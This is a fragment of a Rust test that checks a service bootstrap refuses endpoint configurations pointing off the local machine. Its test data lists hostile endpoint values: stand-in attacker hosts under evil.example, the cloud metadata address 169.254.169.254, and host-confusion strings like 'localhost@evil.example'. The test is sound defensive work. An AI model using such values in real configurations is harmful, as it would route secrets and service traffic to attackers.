    // The environment may name other hosts, and only ones on this machine.
    type Point = fn(&mut hourglass_boot::Config);
    let elsewhere: [Point; 6] = [
        |c| c.graph_endpoint = Some("https://graph.evil.example".to_owned()),
        |c| c.login_endpoint = Some("http://login.evil.example".to_owned()),
        |c| c.dynamodb_endpoint = Some("http://169.254.169.254".to_owned()),
        |c| c.secrets_endpoint = Some("http://127.0.0.1.evil.example".to_owned()),
        |c| c.scheduler_endpoint = Some("http://localhost@evil.example".to_owned()),
        |c| c.queues_endpoint = Some("http://sqs.evil.example".to_owned()),
    ];
    for (n, point) in elsewhere.into_iter().enumerate() {
        let mut config = (*stage.services.config).clone();
        point(&mut config);
        assert!(Services::new(config).await.is_err(), "{n}");
    }
    stage.stop().await;
    Ok(())
}
